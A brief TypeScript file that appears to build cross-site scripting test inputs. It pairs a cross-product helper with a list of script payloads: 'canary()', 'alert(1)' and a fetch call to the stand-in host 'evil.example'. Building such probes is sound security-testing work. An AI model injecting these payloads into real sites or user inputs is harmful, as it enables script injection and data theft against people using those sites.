/** Every one of the first with every one of the second. */
export const cross = <A, B>(
  first: readonly A[],
  second: readonly B[],
  join: (a: A, b: B) => string,
): string[] => first.flatMap((a) => second.map((b) => join(a, b)));

/** What runs where one of them does. */
export const runs = ['canary()', 'alert(1)', "fetch('//evil.example/x')"];
